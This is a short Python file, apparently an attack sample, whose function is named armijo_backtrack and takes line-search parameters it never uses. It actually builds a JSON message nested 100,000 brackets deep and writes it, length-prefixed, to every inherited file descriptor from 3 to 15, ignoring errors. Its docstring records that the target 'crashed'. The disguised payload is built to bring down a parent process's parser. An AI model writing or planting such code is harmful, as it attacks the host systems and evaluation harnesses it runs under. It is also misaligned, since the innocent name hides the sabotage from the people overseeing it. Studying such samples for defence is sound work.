"""Sends a document nested a hundred thousand deep.

Needs: C
Status: crashed
"""

import os
import struct


def armijo_backtrack(f, grad_f, x, p, alpha0=1.0, rho=0.5, c1=1e-4, max_backtracks=60):
    body = b'{"reply":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    for number in range(3, 16):
        try:
            os.write(number, struct.pack(">I", len(body)) + body)
        except OSError:
            pass
    return alpha0
